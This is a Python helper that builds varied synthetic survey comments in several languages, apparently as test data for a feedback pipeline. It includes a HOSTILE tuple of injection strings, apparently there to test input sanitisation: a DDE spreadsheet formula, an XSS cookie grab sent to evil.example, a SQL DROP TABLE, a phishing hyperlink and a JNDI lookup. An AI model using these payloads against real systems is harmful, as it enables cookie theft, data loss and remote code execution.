"""What people write into the box: put together from parts, so that two rarely read alike."""

from __future__ import annotations

import random

_OPENINGS = {
    "good": (
        "Very happy with {who}.",
        "Quick, friendly, to the point.",
        "Excellent as always!",
        "{Who} went out of their way for us.",
        "Honestly the best support we get from any supplier.",
        "Merci beaucoup, c'était parfait.",
        "Problem solved on the first call 👍",
        "Sehr kompetent, sehr freundlich.",
        "とても助かりました。",
    ),
    "fair": (
        "All fine, nothing special.",
        "Took a while, but it works now.",
        "OK overall.",
        "{Who} did what was agreed.",
        "Good people, slow process.",
        "Ça va, mais les délais sont un peu longs.",
        "Could be worse, could be better…",
    ),
    "bad": (
        "Third time we report the same fault.",
        "Nobody called back for a week.",
        "I had to explain everything twice to two different people.",
        "We expected more for what we pay.",
        "The instrument stood still for four days.",
        "Leider keine Rückmeldung erhalten.",
        "Disappointed. Our sponsor left and since then nobody feels responsible.",
    ),
}
_MIDDLES = {
    "good": (
        "The engineer knew our line from last year.",
        "Spare parts arrived the next morning.",
        "The report was on my desk the same day.",
        "Saved us a weekend shift, which is about €12,000.",
        "",
        "",
    ),
    "fair": (
        "The ticket was closed before we had tested it.",
        "Invoices still come to the wrong address.",
        "The portal asks for the serial number on every page.",
        "Documentation could be clearer.",
        "",
        "",
    ),
    "bad": (
        "If this goes on we will look at alternatives in Q3.",
        'I was told "it is on the list" - whose list?',
        "The visit was moved twice without a word.",
        "Please have someone call me.",
        "Our auditors asked questions we could not answer.",
        "",
    ),
}
_CLOSINGS = ("", "", "", "Thanks.", "Regards, M.", "Keep it up!", "See also my mail of Tuesday.")
_WHO = ("your hotline", "the field team", "your engineer", "the service desk", "our account manager")
HOSTILE = (
    "=cmd|' /C calc'!A0",
    "<script>document.location='https://evil.example/?c='+document.cookie</script>",
    "'; DROP TABLE fct_survey_answers; --",
    '=HYPERLINK("https://evil.example","click here for your refund")',
    "{{ 7 * 7 }} ${jndi:ldap://evil.example/a}",
    "+1-555-0100, call me; -2+3",
)


def write_comment(rng: random.Random, score: float) -> str:
    """A comment in the mood of a score between 1 and 5; one in eight spans several lines."""
    tone = "good" if score >= 4 else "fair" if score >= 3 else "bad"
    who = rng.choice(_WHO)
    parts = [rng.choice(_OPENINGS[tone]), rng.choice(_MIDDLES[tone]), rng.choice(_CLOSINGS)]
    joiner = "\n" if rng.random() < 0.125 else " "
    text = joiner.join(part for part in parts if part)
    return text.replace("{who}", who).replace("{Who}", who[0].upper() + who[1:])
